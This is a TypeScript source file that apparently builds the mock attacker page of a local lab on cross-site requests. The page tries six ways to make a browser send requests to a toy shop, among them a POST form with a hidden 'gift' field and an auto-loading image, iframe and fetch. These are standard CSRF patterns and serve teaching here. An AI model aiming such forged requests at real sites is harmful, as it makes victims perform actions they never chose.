// The attacker's site: one page with six ways to make a visitor's browser ask the shop for something.

import { join } from 'node:path';

import express, { type Express } from 'express';

import { html } from '../../html';
import { labHeaders } from '../bench/lab-headers';
import { labDocument } from '../bench/lab-page';
import type { LabParts } from '../lab';

export function createEvilSite({ port }: LabParts, shop: () => string): Express {
  const app = express();
  app.disable('x-powered-by');
  app.use(labHeaders({ port, alsoTo: () => [shop()] }));
  app.use('/assets', express.static(join(__dirname, '..', '..', 'assets'), { index: false, redirect: false }));
  app.get('/', (_req, res) => {
    const body = html`<header class="banner">
        A made-up attacker’s page on your own computer. It attacks the toy shop only.
      </header>
      <main id="main">
        <h1>You have won a cookie</h1>
        <p>
          This page is <code>evil.localhost</code>: another <em>site</em> than <code>shop.localhost</code>. It never sees the
          shop’s cookies. It can only make your browser ask the shop, and your browser decides what goes along.
        </p>
        <h2>Three ways that you have to press</h2>
        <p class="ways"><a class="button" href="${shop()}/from/link#result">Claim it by a link</a></p>
        <form class="ways" method="get" action="${shop()}/from/get-form#result"><button>Claim it by a GET form</button></form>
        <form class="ways" method="post" action="${shop()}/from/post-form#result">
          <input type="hidden" name="gift" value="100 cookies for Mallory" /><button>Claim it by a POST form</button>
        </form>
        <h2>Three that have happened already</h2>
        <p>The shop has been asked for this picture and for this frame, and a script has fetched something of it:</p>
        <p class="ways">
          <img src="${shop()}/from/image" width="48" height="48" alt="A picture of the shop" />
          <iframe src="${shop()}/from/frame" title="A page of the shop in a frame"></iframe>
        </p>
        <p role="status" data-fetch="${shop()}/from/fetch">The script has fetched nothing yet.</p>
        <p><a href="${shop()}/">Back to the shop, to see what it got</a></p>
      </main>`;
    res
      .set('Cache-Control', 'no-store')
      .send(labDocument({ title: 'You have won', body, scripts: ['lab-evil'], siteOrigin: '' }));
  });
  return app;
}
